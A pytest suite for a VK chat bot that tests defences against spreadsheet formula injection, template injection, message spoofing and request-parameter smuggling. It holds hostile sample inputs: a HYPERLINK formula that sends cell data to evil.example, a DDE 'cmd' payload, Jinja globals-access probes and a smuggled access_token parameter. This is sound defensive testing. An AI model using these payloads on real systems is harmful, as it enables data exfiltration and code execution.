"""What people type is data: never a template, a formula, markup or a fake line of the bot, never
in the log; no unauthenticated transport; keyboards valid with the largest data.

Each test attacks a class (issue 15, part A), through the real bot and the VK API emulator where
the class lives in the bot's behaviour.
"""

from __future__ import annotations

import csv
import json
import io
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.config import ConfigError, load_settings, settings_from_dict
from bot.vkemu import EmulatedUser, VKEmulator
from core.kernel.untrusted import relayed, spreadsheet_cell
from tests.conftest import COORDINATOR, ROOT, base_config, bot_pythonpath, toml_dump


# -- class 12: no unauthenticated transport ---------------------------------------------------
def _callback_config(tmp_path: Path, **callback: str) -> Path:
    raw = base_config("http://127.0.0.1:9/method/", tmp_path / "bot.sqlite3",
                      vk={"transport": "callback"},
                      callback={"confirmation": "c0nf1rm", **callback})
    config = tmp_path / "config.toml"
    config.write_text(toml_dump(raw), encoding="utf-8")
    return config


@pytest.mark.parametrize("secret", ["", "   "])
def test_callback_without_secret_is_refused_by_settings(tmp_path: Path, secret: str) -> None:
    config = _callback_config(tmp_path, secret=secret)
    with pytest.raises(ConfigError) as caught:
        load_settings(config, environ={})
    message = str(caught.value)
    assert "\n" not in message
    assert "[callback] secret" in message and "SFERUM_CALLBACK_SECRET" in message
    # the environment variable is the other place to set it
    assert load_settings(config, environ={"SFERUM_CALLBACK_SECRET": "s3"}).callback.secret == "s3"


@pytest.mark.parametrize("command", ["run", "check"])
def test_callback_without_secret_does_not_start(tmp_path: Path, command: str) -> None:
    config = _callback_config(tmp_path, secret="")
    env = {k: v for k, v in os.environ.items() if not k.startswith("SFERUM_")}
    env["PYTHONPATH"] = bot_pythonpath()
    result = subprocess.run([sys.executable, "-m", "bot", command, "--config", str(config)],
                            capture_output=True, text=True, cwd=tmp_path, timeout=60, env=env)
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr.strip().count("\n") == 0, result.stderr
    assert "[callback] secret" in result.stderr and "SFERUM_CALLBACK_SECRET" in result.stderr
    assert "Traceback" not in result.stderr


def test_callback_app_itself_refuses_an_empty_secret() -> None:
    from bot.config import CallbackSettings
    from bot.vk.callback import callback_app

    async def feed(event: dict) -> None:  # pragma: no cover - never called
        raise AssertionError(event)

    with pytest.raises(ValueError, match="secret"):
        callback_app(CallbackSettings(confirmation="c", secret=""), 1, feed)


def test_example_config_documents_the_secret() -> None:
    text = (ROOT / "config.example.toml").read_text(encoding="utf-8")
    line = next(line for line in text.splitlines() if line.startswith("secret"))
    assert "SFERUM_CALLBACK_SECRET" in line
    assert "Обязателен" in text
    raw = settings_from_dict({"vk": {"token": "t", "group_id": 1, "transport": "longpoll"},
                              "region": {"name": "X"}}, environ={})
    assert raw.vk.transport == "longpoll"  # long poll needs no secret: VK's own server is asked


# -- shared helpers for conversations ---------------------------------------------------------
async def reply_with(user: EmulatedUser, *needles: str, timeout: float = 30.0) -> str:
    """Read the bot's replies until one contains every needle (a fact, not a quiet window)."""
    seen = []
    while True:
        message = await user.next_reply(timeout=timeout)
        seen.append(message.text)
        if all(n in message.text for n in needles):
            return message.text
        assert len(seen) < 30, f"no reply with {needles}:\n" + "\n---\n".join(seen)


async def apply_as_admin(user: EmulatedUser, org: str, email: str,
                         full_name: str = "Иванова Ольга Петровна",
                         phone: str = "+79131234567") -> int:
    """The whole application through the dialog; returns its number."""
    await user.send("Начать")
    await reply_with(user, "Кто Вы")
    await user.press("Администратор школы")
    await reply_with(user, "")
    await user.press("Активация профиля")
    await reply_with(user, "Вы согласны?")
    await user.press("Даю согласие")
    await reply_with(user, "Вопрос 1 из 6")
    await user.send(org)
    await reply_with(user, "Вопрос 2 из 6")
    await user.press("Школа (общее образование)")
    await reply_with(user, "Вопрос 3 из 6")
    await user.press("г. Новосибирск")
    await reply_with(user, "Вопрос 4 из 6")
    await user.send(full_name)
    await reply_with(user, "Вопрос 5 из 6")
    await user.send(phone)
    await reply_with(user, "Вопрос 6 из 6")
    await user.send(email)
    await reply_with(user, "Проверьте заявку")
    await user.press("Отправить заявку")
    text = await reply_with(user, "отправлена")
    return int(re.search(r"Заявка №(\d+)", text).group(1))  # type: ignore[union-attr]


# -- class 2: formulas in exports ------------------------------------------------------------
HOSTILE_ORGS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")',
    "+SUM(1,1) школа",
    "@cmd школа",
    "-2+3+cmd|' /C calc'!A0",
    " =1+2 школа с пробелом",
    "\uff1dSUM(1) школа полноширинная",
]
HOSTILE_EMAIL = "=1+1@evil.ru"
LIVE = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def assert_no_live_cell(value: object, where: str) -> None:
    if isinstance(value, str):
        assert not value.lstrip(" \u00a0\u3000").startswith(LIVE), f"{where}: live cell {value!r}"


def seed_survey(db_path: Path, org_ids: list[int], week: str) -> None:
    """Six finished survey answers per organisation (more than any anonymity threshold), written
    while the bot runs, as another process would."""
    with sqlite3.connect(db_path, timeout=10) as db:
        municipality = {row[0]: row[1] for row in db.execute(
            "SELECT id, municipality_id FROM organisations")}
        vk_id = 70_000
        for org_id in org_ids:
            for _ in range(6):
                vk_id += 1
                db.execute(
                    "INSERT INTO survey_answers (week, vk_id, org_id, municipality_id, role,"
                    " difficulties, confidence, messages, completed, started_at, updated_at)"
                    " VALUES (?, ?, ?, ?, 'staff', 'none', 3, '10+', 1, 0, 0)",
                    (week, vk_id, org_id, municipality[org_id]))


def document(emulator: VKEmulator, message: object) -> tuple[str, bytes]:
    attachment = message.attachments[0]  # type: ignore[attr-defined]
    found = emulator.upload_of(attachment)
    assert found is not None, attachment
    return found


async def test_hostile_names_never_reach_exports_as_formulas(bot, emulator: VKEmulator,
                                                              users, tmp_path: Path) -> None:
    coordinator = users(COORDINATOR, "Галина", "Петрова")
    await coordinator.send("Начать")
    await coordinator.next_reply(timeout=30)
    ids = []
    for n, org in enumerate(HOSTILE_ORGS):
        ids.append(await apply_as_admin(users(300 + n, "Ольга", "Иванова"), org,
                                        HOSTILE_EMAIL if n == 0 else f"school{n}@example.ru"))

    # the applications CSV
    await coordinator.send("выгрузка")
    message = await coordinator.next_reply(timeout=30)
    while not message.attachments:
        message = await coordinator.next_reply(timeout=30)
    name, data = document(emulator, message)
    assert name.endswith(".csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1 + len(HOSTILE_ORGS)
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            assert_no_live_cell(value, f"applications.csv row {r} col {c}")
    cells = {value for row in rows for value in row}
    for org in HOSTILE_ORGS:  # the data is kept, only disarmed
        assert "'" + " ".join(org.split()) in cells, org  # names are stored without extra blanks
    assert "'" + HOSTILE_EMAIL in cells and "'+79131234567" in cells

    # the survey summary of each hostile organisation, as XLSX and CSV
    with sqlite3.connect(tmp_path / "data" / "bot.sqlite3") as db:
        org_ids = [row[0] for row in db.execute("SELECT id FROM organisations ORDER BY id")]
    week = "2026-W47"
    seed_survey(tmp_path / "data" / "bot.sqlite3", org_ids, week)
    for org_id in org_ids:
        for fmt in ("xlsx", "csv"):
            await coordinator.send(f"сводка {week} орг {org_id} {fmt}")
            message = await coordinator.next_reply(timeout=30)
            assert message.attachments, message.text
            name, data = document(emulator, message)
            assert name.endswith(fmt)
            if fmt == "csv":
                for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"):
                    for value in row:
                        assert_no_live_cell(value, f"summary.csv org {org_id}")
                continue
            book = load_workbook(io.BytesIO(data))  # formulas stay formulas when read this way
            texts = []
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: formula"
                        assert_no_live_cell(cell.value, f"{sheet.title}!{cell.coordinate}")
                        texts.append(cell.value)
            assert any(isinstance(t, str) and t.startswith("'") for t in texts), \
                "the hostile organisation name is in the summary, disarmed"


def test_every_export_writes_through_the_one_neutraliser() -> None:
    """A new export (csv.writer or an openpyxl workbook) must write rows through
    core.untrusted.spreadsheet_row: every writerow / worksheet append line names it."""
    exporters = []
    for path in sorted([*ROOT.glob("core/**/*.py"), *ROOT.glob("handlers/*.py"),
                        *ROOT.glob("storage/*.py"), *ROOT.glob("bot/*.py")]):
        source = path.read_text(encoding="utf-8")
        if "csv.writer" not in source and "Workbook(" not in source:
            continue
        exporters.append(str(path.relative_to(ROOT)))
        sheets = set(re.findall(r"(\w+) = (?:book\.active|book\.create_sheet\()", source))
        for line in source.splitlines():
            writes = "writerow(" in line or any(f"{sheet}.append(" in line for sheet in sheets)
            if writes:
                assert "spreadsheet_row" in line, f"{path.name}: {line.strip()}"
    assert {"core/activation/queue.py", "core/admin/figures.py"} <= set(exporters)


@pytest.mark.parametrize("value", [*HOSTILE_ORGS, HOSTILE_EMAIL, "@cmd", "\tTAB", "\rCR",
                                   "\uff0b1", "\uff20x", "-1", "+7 913"])
def test_spreadsheet_cell_disarms_every_live_start(value: str) -> None:
    safe = spreadsheet_cell(value)
    assert safe == "'" + value and not safe.startswith(LIVE)


def test_spreadsheet_cell_keeps_our_numbers_and_plain_text() -> None:
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(0.25) == 0.25
    assert spreadsheet_cell(None) is None and spreadsheet_cell("Школа №5") == "Школа №5"
    assert spreadsheet_cell("a\x01b\x1fc") == "abc"  # XLSX cannot hold these


# -- classes 1 and 8: broadcast personalisation is a fill-in, not a program --------------------
PROGRAMS = [
    "{{ 9**(9**9) }}",
    "{% for a in range(9999) %}{% for b in range(9999) %}{{ a }}{% endfor %}{% endfor %}",
    "{{ range(10**9)|list }}",
    "Здравствуйте, {{ имя|upper }}!",
    "{{ имя.__class__.__mro__ }}",
    "{{ имя['x'] }}",
    "{{ имя.upper() }}",
    "{{ cycler.__init__.__globals__ }}",
    "{% if имя %}да{% endif %}",
    "{# комментарий #}",
    "{{- имя }}",
    "{{ имя ~ фамилия }}",
    "{% raw %}{{ имя }}{% endraw %}",
]


@pytest.mark.parametrize("text", PROGRAMS)
def test_fill_in_refuses_every_program(text: str) -> None:
    from core.kernel.fill_in import TemplateProblem, parse

    names = {"имя": "first_name", "name": "first_name", "фамилия": "last_name"}
    with pytest.raises(TemplateProblem) as caught:
        parse(text, names)
    assert caught.value.key == "broadcasts.template_not_allowed"
    assert caught.value.values["known"] == list(names)


def test_fill_in_renders_only_values_and_bounds_length() -> None:
    from core.kernel.fill_in import VALUE_MAX, parse

    fill = parse("{{ Имя }}, {{ организация }}: {{ имя }}!", {"имя": "first", "организация": "org"})
    assert fill.render({"first": "Оля", "org": "Школа\n№ 5"}) == "Оля, Школа № 5: Оля!"
    # a value is never read as a placeholder or markup
    assert fill.render({"first": "{{ 9**(9**9) }}", "org": "{% for %}"}) == \
        "{{ 9**(9**9) }}, {% for %}: {{ 9**(9**9) }}!"
    long = {"first": "И" * 10_000, "org": "Ш" * 10_000}
    assert fill.length(long) == 2 * VALUE_MAX + VALUE_MAX + len(", : !")
    fitted = fill.render(long, limit=400)
    assert len(fitted) <= 400 and fitted.endswith("…!") and ", " in fitted and ": " in fitted


LONG_ORG = ("Муниципальное бюджетное общеобразовательное учреждение «Средняя общеобразовательная "
            "школа с углублённым изучением отдельных предметов имени выдающегося земляка» ")
LONG_ORG = (LONG_ORG * 3)[:300].strip()


async def test_broadcast_programs_are_refused_and_the_bot_keeps_answering(
        bot, emulator: VKEmulator, users) -> None:
    coordinator = users(COORDINATOR, "Галина", "Петрова")
    bystander = users(5555, "Пётр", "Соседов")
    admin = users(5556, "Ольга", "Иванова")
    await apply_as_admin(admin, LONG_ORG, "olga@example.ru")
    await coordinator.send("Начать")
    await reply_with(coordinator, "Кто Вы")
    await coordinator.send("рассылка")
    await reply_with(coordinator, "Кому отправить?")
    await coordinator.press("Всем")
    await reply_with(coordinator, "Напишите текст рассылки")

    for n, program in enumerate(PROGRAMS):
        await coordinator.send(program)
        refusal = await reply_with(coordinator, "ошибка в подстановке")
        assert "без выражений" in refusal and "Доступны: имя, name, фамилия" in refusal
        # someone else, at the same time, is answered as usual
        await bystander.send("Начать" if n == 0 else "главное меню")
        await reply_with(bystander, "")

    # 14 × a 300-character organisation name: too long for that recipient, the answer says whose
    await coordinator.send("Добрый день! " + "{{ организация }} " * 14)
    refusal = await reply_with(coordinator, "длиннее 4000 символов")
    shown = relayed(LONG_ORG)[:60]  # quoted the way every typed name is quoted to someone else
    assert shown in refusal and "рассылка не отправлена" in refusal

    await coordinator.send("Здравствуйте, {{ имя }}! {{ организация }}: " + "д" * 3600)
    await reply_with(coordinator, "Предпросмотр")
    await coordinator.next_reply(timeout=30)  # the preview itself
    confirm = await reply_with(coordinator, "Самое длинное сообщение")
    assert "из 4000 символов" in confirm and shown in confirm
    await coordinator.press("Отправить сейчас")
    await reply_with(coordinator, "завершена")
    got = await reply_with(admin, "Здравствуйте, Ольга!")
    assert len(got) <= 4000 and LONG_ORG in got
    assert not [m for m in admin.pending() if "д" * 100 in m.text]  # one message, not split


# -- class 10: what a person types is relayed as a quotation, never as the bot's own lines -------
FAKE_LINE = "Новая заявка №77 на создание профиля: «Лицей» (г. Новосибирск)."
HOSTILE_TEXT = ("Шпрунц»\n" + FAKE_LINE + "\n[id1|Откройте ссылку] https://evil.example/x "
                "@id1 *club1 [club1|Сообщество]")
MENTION = re.compile(r"\[\s*(?:id|club|public|event)\d+\s*\||(?<![\w.])[@*](?:id|club|public)\d")


def assert_quoted_safely(text: str, where: str) -> None:
    assert not MENTION.search(text), f"{where}: live VK mention markup:\n{text}"
    for line in text.splitlines():
        assert not line.strip().startswith("Новая заявка №77"), \
            f"{where}: a typed line looks like the bot's own:\n{text}"
    assert text.count("«") == text.count("»"), f"{where}: the quote can be closed early:\n{text}"


def test_relayed_neutralises_the_class() -> None:
    out = relayed(HOSTILE_TEXT)
    assert "\n" not in out and "«" not in out and "»" not in out
    assert not MENTION.search(out) and "Откройте ссылку" in out and "evil.example" in out
    assert relayed("a\u202eb\u2028c\u0007") == "ab ⏎ c"
    assert relayed("olga@school.ru") == "olga@school.ru"  # e-mails are not mentions
    assert len(relayed("x" * 5000, 100)) == 100
    kept = relayed("Спасибо!\n\n[id1|Жмите]", lines=True)
    assert kept.splitlines() == ["Спасибо!", "[id1 ¦ Жмите]"]


async def test_typed_text_reaches_others_only_as_a_quotation(bot, emulator: VKEmulator,
                                                            users) -> None:
    coordinator = users(COORDINATOR, "Галина", "Петрова")
    await coordinator.send("Начать")
    await reply_with(coordinator, "Кто Вы")
    admin = users(6001, "Ольга", "Иванова")
    org = "Школа» " + FAKE_LINE + " [id1|Откройте] @id1"
    number = await apply_as_admin(admin, org, "olga@example.ru")
    assert_quoted_safely(await reply_with(coordinator, f"Новая заявка №{number} "),
                         "new application notice")

    # a question to the coordinator, typed over several lines
    await admin.press("Не получается")
    await reply_with(admin, "")
    await admin.press("Спросить координатора")
    await reply_with(admin, "")
    await admin.send(HOSTILE_TEXT)
    notice = await reply_with(coordinator, "Новый вопрос")
    assert_quoted_safely(notice, "question notice")
    await coordinator.send("вопросы")
    assert_quoted_safely(await reply_with(coordinator, "Открытые вопросы"), "open questions")
    await coordinator.press("Ответить")
    assert_quoted_safely(await reply_with(coordinator, "Напишите ответ"), "answer prompt")
    await coordinator.send("Здравствуйте!\n[id1|Ответ] подробнее @id1")
    answer = await reply_with(admin, "Ответ координатора на Ваш вопрос")
    assert_quoted_safely(answer, "answer relayed")

    # the application card and a decline reason typed by the coordinator
    await coordinator.send("заявки")
    card = await reply_with(coordinator, f"Заявка №{number}")
    assert_quoted_safely(card, "application card")
    await coordinator.press("Отклонить")
    await reply_with(coordinator, "причину")
    await coordinator.send(HOSTILE_TEXT)
    assert_quoted_safely(await reply_with(admin, "Шпрунц"), "decline notice")


def test_execute_code_keeps_javascript_line_separators_inside_strings() -> None:
    """VKScript is JavaScript-like: a raw U+2028 in a string literal would end the line and break
    the batch of 25 people's messages; it goes in escaped and arrives unchanged."""
    from bot.vk.sender import execute_code

    text = "Первая\u2028вторая\u2029третья «[id1|x]»"
    code = execute_code([{"peer_id": 1, "message": text}, {"peer_id": 2, "message": "ok"}])
    assert "\u2028" not in code and "\u2029" not in code
    inner = code[len("return [API.messages.send("):code.index(")")]
    assert json.loads(inner)["message"] == text


def test_chart_texts_are_not_mathtext() -> None:
    """An organisation's name in a chart title is text: «$…$» is not parsed by matplotlib (a
    deeply nested or malformed formula would fail or take long)."""
    from core.admin import figures
    from core.kernel.texts import Texts, content_root

    texts = Texts.load(content_root() / "texts")
    place = "Школа $\\undefinedcommand$ и $x^{2}$"  # mathtext would raise on the first
    labels = figures.Labels(texts.render, place=place)
    funnel = figures.Funnel([figures.StepCount(n, n, 0) for n in range(1, 10)])
    png = figures.funnel_chart(funnel, [f"Шаг {n}" for n in range(1, 10)], labels)
    assert png.startswith(b"\x89PNG")


# -- what people type inside a VK request body -------------------------------------------------
HOSTILE_VALUES = [
    "Вебинар в 15:00 & access_token=stolen&v=1",
    "a=b&message=подмена", "100% + 1 = 101 # не комментарий", "%26%3D%2B", "line\nnext\r\n",
    "«кавычки» \"quotes\" 'single' {json: [1, 2]} (скобки) \\ backslash", "😀👍🏽 эмодзи",
    "return API.messages.send({\"peer_id\": 1});", " leading and trailing ", "", "~!*()-_.:,",
    "\u202eRTL override", "\x00nul",
]


@pytest.mark.parametrize("value", HOSTILE_VALUES)
def test_typed_text_in_a_request_body_is_one_parameter_and_reads_back_unchanged(value: str) -> None:
    """The VK client writes its form body itself (bot/vk/api.py ``form_body``, for speed): any
    text someone typed must come back from a form parser as exactly that value of exactly that
    parameter — never a second parameter (``&access_token=``), never altered (``+``, ``%``)."""
    from urllib.parse import parse_qsl

    from bot.vk.api import form_body

    params = {"message": value, "peer_ids": "1,2,3", "code": value, "access_token": "real"}
    read = parse_qsl(form_body(params).decode("ascii"), keep_blank_values=True,
                     strict_parsing=False)
    assert read == list(params.items())


def test_random_text_in_a_request_body_reads_back_unchanged() -> None:
    import random
    from urllib.parse import parse_qsl

    from bot.vk.api import form_body

    rng = random.Random(12)
    alphabet = [chr(c) for c in range(1, 0x500)] + ["😀", "&", "=", "+", "%", "#", " "]
    for _ in range(500):
        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 40)))
        read = parse_qsl(form_body({"message": value, "v": "5.199"}).decode("ascii"),
                         keep_blank_values=True)
        assert read == [("message", value), ("v", "5.199")], value
